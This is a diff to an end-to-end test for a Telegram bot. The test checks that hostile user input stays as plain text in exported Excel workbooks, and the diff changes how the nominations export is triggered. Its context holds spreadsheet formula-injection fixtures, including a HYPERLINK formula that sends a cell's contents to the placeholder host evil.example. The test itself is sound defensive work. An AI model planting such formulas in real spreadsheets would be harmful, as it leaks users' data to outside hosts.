@@ -12,6 +12,7 @@ from sqlalchemy import select, update
 from models import Task, Unit
 from tests.auxil.harness import BotHarness, Reply, TelegramUser, buttons
 from tests.conftest import join
+from tests.e2e.test_nominations import click
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?d="&B6,"Bấm vào đây")'
 NAME = "=1+2"
@@ -92,7 +93,8 @@ async def test_hostile_text_stays_text_in_every_workbook(
     [progress_xlsx] = [data for name, data in progress.items() if name.endswith(".xlsx")]
     _assert_text_only(progress_xlsx, UNIT, TABBED, HYPERLINK, NOTE, REPLY, CAPTION, OTHER_NOTE)
 
-    nominations = await _uploads(seeded, await officer.send("/export nominations"))
+    choice = await officer.send("/export nominations")
+    nominations = await _uploads(seeded, await click(officer, choice, "Cả năm"))
     [nominations_xlsx] = [data for name, data in nominations.items() if name.endswith(".xlsx")]
     _assert_text_only(nominations_xlsx, NOMINEE, "-Hoàn thành xuất sắc nhiệm vụ.")
 
